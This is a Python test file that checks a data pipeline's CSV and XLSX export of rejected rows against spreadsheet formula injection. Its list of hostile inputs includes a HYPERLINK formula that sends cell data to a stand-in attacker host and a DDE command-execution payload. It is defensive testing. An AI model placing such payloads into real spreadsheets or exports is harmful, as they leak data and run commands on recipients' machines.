"""Formula injection: exported rejects never start a text cell like a formula."""
from __future__ import annotations

import csv
import stat
from decimal import Decimal

import pytest
from click.testing import CliRunner

from ops_pipeline.cli import cli
from ops_pipeline.errors import StageNotReady, UsageError
from ops_pipeline.export import FORMULA_STARTS, export_rejects, is_neutral, neutralise
from ops_pipeline.stages.fetch import fetch
from ops_pipeline.stages.validate import validate
from tests.conftest import good_row

HOSTILE = ['=HYPERLINK("http://attacker.example/?d="&A1,"click")', "+1+1", "-2", "@SUM(A1)",
           "\t=1+1", "\r=1+1", " =cmd|' /C calc'!A0", "\uff1d1+1"]


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_text_is_prefixed(value):
    assert neutralise(value) == "'" + value
    assert is_neutral(neutralise(value))


@pytest.mark.parametrize("value", [-5, -5.25, 0, 12, Decimal("-1.50"), True, None, "Year 1", "G99ABCD (HS-TA)",
                                   "1-2-3 plan", "e-mail"])
def test_numbers_and_ordinary_text_are_kept(value):
    assert neutralise(value) == value
    if isinstance(value, (int, float, Decimal)) and not isinstance(value, bool):
        assert type(neutralise(value)) is type(value)


@pytest.fixture
def hostile_run(make_workbook, runs_root):
    rows = [
        good_row(budget_id=1),
        good_row(budget_id=2, amount=HOSTILE[0], desc="+1+1", comments="@SUM(A1)"),
        good_row(budget_id=3, amount="-2", status="=1+1", project="-2 projects"),
        good_row(budget_id=4, amount=-5, fee=-5, status="nope"),
        good_row(budget_id=5, cig_type="\t=1+1", comments="Per Jordan Alvarez"),
    ]
    path = make_workbook(rows)
    # openpyxl writes text starting with "=" as a formula: store those cells as text, as a sender's
    # workbook holding the literal text would.
    from openpyxl import load_workbook

    book = load_workbook(path)
    for row in book.active.iter_rows():
        for cell in row:
            if cell.data_type == "f":
                cell.data_type = "s"
    book.save(path)
    run = fetch(str(path), runs_root)
    validate(run)
    return run


def _every_cell_is_safe(rows):
    for row in rows:
        for value in row:
            if isinstance(value, str) and value[:1] in FORMULA_STARTS:
                try:
                    float(value)
                except ValueError:
                    raise AssertionError(f"formula-like cell exported: {value!r}") from None


def test_csv_rejects(hostile_run, tmp_path):
    out = tmp_path / "rejects.csv"
    result = export_rejects(hostile_run, out)
    assert result["rows"] == 4 and result["format"] == "csv"
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    with open(out, encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0][:3] == ["Row", "Findings", "CAN"]
    body = rows[1:]
    _every_cell_is_safe(body)
    by_row = {r[0]: dict(zip(rows[0], r)) for r in body}
    assert by_row["3"]["Amount"] == "'=HYPERLINK(\"http://attacker.example/?d=\"&A1,\"click\")"
    assert by_row["3"]["Line Desc"] == "'+1+1" and by_row["3"]["Comments"] == "'@SUM(A1)"
    assert by_row["4"]["Amount"] == "'-2" and by_row["4"]["Status"] == "'=1+1"
    assert by_row["4"]["Project Title"] == "'-2 projects"
    assert by_row["5"]["Amount"] == "-5" and by_row["5"]["PSCFee Amount"] == "-5"  # real numbers stay
    assert by_row["6"]["CIG Type"] == "'\t=1+1"
    assert by_row["6"]["Comments"] == "Per Jordan Alvarez"  # staged-data export: values as they are
    assert "bad-amount" in by_row["3"]["Findings"]


def test_xlsx_rejects(hostile_run, tmp_path):
    from openpyxl import load_workbook

    out = tmp_path / "rejects.xlsx"
    export_rejects(hostile_run, out)
    assert stat.S_IMODE(out.stat().st_mode) == 0o600
    book = load_workbook(out)  # not read-only, not data-only: a formula would show as one
    sheet = book.active
    cells = [[c for c in row] for row in sheet.iter_rows(min_row=2)]
    assert all(c.data_type != "f" for row in cells for c in row)
    values = [[c.value for c in row] for row in cells]
    _every_cell_is_safe(values)
    header = [c.value for c in next(sheet.iter_rows(max_row=1))]
    row5 = dict(zip(header, values[2]))
    assert row5["Amount"] == -5 and row5["PSCFee Amount"] == -5  # numeric cells
    assert dict(zip(header, values[0]))["Amount"].startswith("'=HYPERLINK")


def test_cli_rejects(hostile_run, tmp_path, runs_root):
    out = tmp_path / "r.csv"
    result = CliRunner().invoke(cli, ["--runs-root", str(runs_root), "-q", "rejects", str(hostile_run.path),
                                      "--output", str(out)])
    assert result.exit_code == 0, result.output
    assert result.stderr.strip() == f"4 rejected rows written to {out}"
    assert out.exists()
    bad = CliRunner().invoke(cli, ["--runs-root", str(runs_root), "rejects", str(hostile_run.path),
                                   "--output", str(tmp_path / "r.txt")])
    assert bad.exit_code == 2 and "--output must end in .csv or .xlsx" in bad.stderr


def test_rejects_need_a_validated_run(make_workbook, runs_root, tmp_path):
    run = fetch(str(make_workbook([good_row()])), runs_root)
    with pytest.raises(StageNotReady):
        export_rejects(run, tmp_path / "r.csv")
    with pytest.raises(UsageError):
        export_rejects(run, tmp_path / "r.ods")
